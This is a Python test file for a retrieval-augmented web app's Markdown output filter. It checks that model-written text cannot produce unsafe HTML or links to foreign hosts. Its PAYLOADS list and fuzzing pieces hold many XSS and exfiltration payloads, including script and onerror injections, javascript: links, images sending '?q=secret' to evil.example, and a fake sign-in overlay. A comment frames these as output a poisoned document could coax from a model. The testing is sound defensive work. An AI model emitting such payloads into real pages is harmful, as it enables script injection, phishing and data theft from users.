from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.web.output_filter import (
    MarkdownFilter,
    Marks,
    cite,
    closing,
    link_allowed,
    opening,
    plain,
    without_marks,
)

HOSTS = ("wiki.corp.example", "docs.corp.example:8443")
ALLOWED_TAGS = {
    "p", "br", "strong", "em", "s", "ul", "ol", "li", "h3", "h4", "h5", "h6", "blockquote", "hr", "code", "pre", "div",
    "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip

# What a poisoned document may talk a model into writing; every kind reached an attacker or drew over the page somewhere.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/passwd)",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "<img srcset='//evil.example/1.png 1x'>",
    "<video src=//evil.example/v.mp4></video>",
    "<audio src=//evil.example/a.mp3></audio>",
    "<div style='background:url(//evil.example/b.png)'>x</div>",
    "<table background=//evil.example/t.png><tr><td>x</table>",
    "<div style='position:fixed;inset:0'>Sign in again</div>",
    "<form action=//evil.example><input type=password></form>",
    "<a href=https://evil.example ping=//evil.example/p>x</a>",
    "<https://evil.example/auto>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[a](https://wiki.corp.example@evil.example/)",
    "[a](https://wiki.corp.example.evil.example/)",
    "[a](//evil.example/)",
    "[a]( https://evil.example \"onmouseover=alert(1)\")",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <svg/onload=alert(1)>\n  - ![x](http://evil.example)",
    "# <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
]


class _Reader(HTMLParser):
    """Collects every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def _assert_harmless(html: str) -> None:
    for tag, attributes in _Reader(html).elements:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= {"href", "rel", "class", "start"}
        if tag == "a":
            assert link_allowed(str(attributes["href"]), HOSTS)


def _assert_harmless_elsewhere(markdown: str) -> None:
    permissive = MarkdownIt("commonmark", {"html": True}).enable("table")
    for tag, attributes in _Reader(permissive.render(markdown)).elements:
        assert tag in ALLOWED_TAGS | {"h1", "h2"}
        assert set(attributes) <= {"href", "title", "class", "start"}
        if "href" in attributes:
            assert link_allowed(str(attributes["href"]), HOSTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_becomes_harmless_html_on_one_line(payload: str) -> None:
    html = MarkdownFilter(HOSTS).html(payload)
    _assert_harmless(html)
    assert "\n" not in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_stays_harmless_for_another_reader_of_markdown(payload: str) -> None:
    _assert_harmless_elsewhere(MarkdownFilter(HOSTS).markdown(payload))


PIECES = [*"<>![]()`*_#|-\n \"'=:/&;aB1，。：\\~", "http://evil.example", "script", "img src=x", "javascript:", "](", "![", "```"]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@given(TEXTS)
def test_no_text_whatever_yields_an_element_that_is_not_allowed(text: str) -> None:
    _assert_harmless(MarkdownFilter(HOSTS).html(text))


@given(TEXTS)
@example("]([](http://evil.example)")
def test_no_text_whatever_yields_an_image_or_a_foreign_link_elsewhere(text: str) -> None:
    _assert_harmless_elsewhere(MarkdownFilter(HOSTS).markdown(text))


def test_lists_tables_emphasis_and_code_are_kept() -> None:
    html = MarkdownFilter().html("**重点**：\n\n- 一\n- 二\n\n| 名 | 值 |\n|---|---|\n| 甲 | `x<1` |\n\n1. 先\n2. 后")
    reader = _Reader(html)
    tags = [tag for tag, _ in reader.elements]
    assert tags.count("li") == 4
    assert tags.count("td") == 2
    assert "strong" in tags and "code" in tags
    assert "x<1" in reader.text


def test_headings_stand_below_the_page_title() -> None:
    assert MarkdownFilter().html("# 一\n\n###### 六") == "<h3>一</h3><h6>六</h6>"


def test_code_blocks_keep_their_lines() -> None:
    assert MarkdownFilter().html("```\na\n\n  b\n```") == "<pre><code>a&#10;&#10;  b</code></pre>"


@pytest.mark.parametrize(
    "address",
    ["https://wiki.corp.example/a?b=1", "http://WIKI.corp.example", "https://docs.corp.example:8443/x"],
)
def test_links_to_allowed_hosts_stay_links(address: str) -> None:
    ((tag, attributes),) = [e for e in _Reader(MarkdownFilter(HOSTS).html(f"[手册]({address})")).elements if e[0] == "a"]
    assert (tag, attributes["href"]) == ("a", address)
    assert "noopener" in str(attributes["rel"])


def test_a_link_to_another_host_becomes_text_that_says_where_it_led() -> None:
    assert MarkdownFilter(HOSTS).html("[点我](https://evil.example/x)") == "<p>点我 (https://evil.example/x)</p>"


def test_without_allowed_hosts_there_are_no_links() -> None:
    assert "<a" not in MarkdownFilter().html("[手册](https://wiki.corp.example)")


def test_an_image_becomes_its_description() -> None:
    assert MarkdownFilter(HOSTS).html("![架构图](https://wiki.corp.example/a.png)") == "<p>架构图</p>"


MARKS = Marks(cite=lambda n: f"[c{n}]", wrap=lambda n: (f"<u{n}>", f"</u{n}>"), after=lambda n: f"(a{n})")


def test_marks_become_what_they_stand_for_and_sentences_cross_emphasis() -> None:
    text = f"{opening(7)}甲**乙**丙{cite(3)}。{closing(7)}丁"
    assert MarkdownFilter().html(text, MARKS) == "<p><u7>甲</u7><strong><u7>乙</u7></strong><u7>丙</u7>[c3]<u7>。</u7>(a7)丁</p>"


def test_marks_inside_table_cells_and_code_are_found() -> None:
    html = MarkdownFilter().html(f"| a |\n|---|\n| {opening(1)}值{cite(2)}{closing(1)} |\n\n`x{cite(4)}`", MARKS)
    assert "<td><u1>值</u1>[c2](a1)</td>" in html
    assert "<code>x</code>[c4]" in html


def test_a_model_cannot_forge_marks() -> None:
    assert without_marks(f"甲{cite(1)}{opening(2)}") == "甲12"


def test_plain_text_is_neither_html_nor_more_than_one_line() -> None:
    assert plain("<b>&\n第二行\u202e反") == "&lt;b&gt;&amp;<br>第二行反"
